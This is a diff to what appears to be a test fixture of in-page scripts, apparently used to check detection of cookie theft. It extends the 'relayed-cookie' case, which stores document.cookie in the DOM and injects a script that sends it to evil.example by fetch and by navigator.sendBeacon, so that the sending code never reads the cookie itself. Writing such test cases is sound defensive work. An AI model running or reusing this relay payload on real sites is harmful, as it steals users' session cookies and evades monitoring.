@@ -253,12 +253,15 @@ export const MAIN_WORLD_SCRIPTS = {
 
   /**
    * Reads the cookie in one script and sends it from another: the helper leaves it in the DOM and inserts an
-   * inline script that sends whatever it finds there — code that itself read no cookie.
+   * inline script that sends whatever it finds there — code that itself read no cookie — in a URL (fetch)
+   * and in a body (sendBeacon).
    */
   'relayed-cookie': `(() => {
   document.documentElement.dataset.k = encodeURIComponent(document.cookie);
   const sender = document.createElement('script');
-  sender.textContent = "fetch('https://evil.example/relay?c=' + document.documentElement.dataset.k, { mode: 'no-cors' }).catch(() => {});";
+  sender.textContent =
+    "fetch('https://evil.example/relay?c=' + document.documentElement.dataset.k, { mode: 'no-cors' }).catch(() => {});" +
+    "navigator.sendBeacon('https://evil.example/relay-body', JSON.stringify({ c: decodeURIComponent(document.documentElement.dataset.k) }));";
   document.head.appendChild(sender);
 })();`,
 
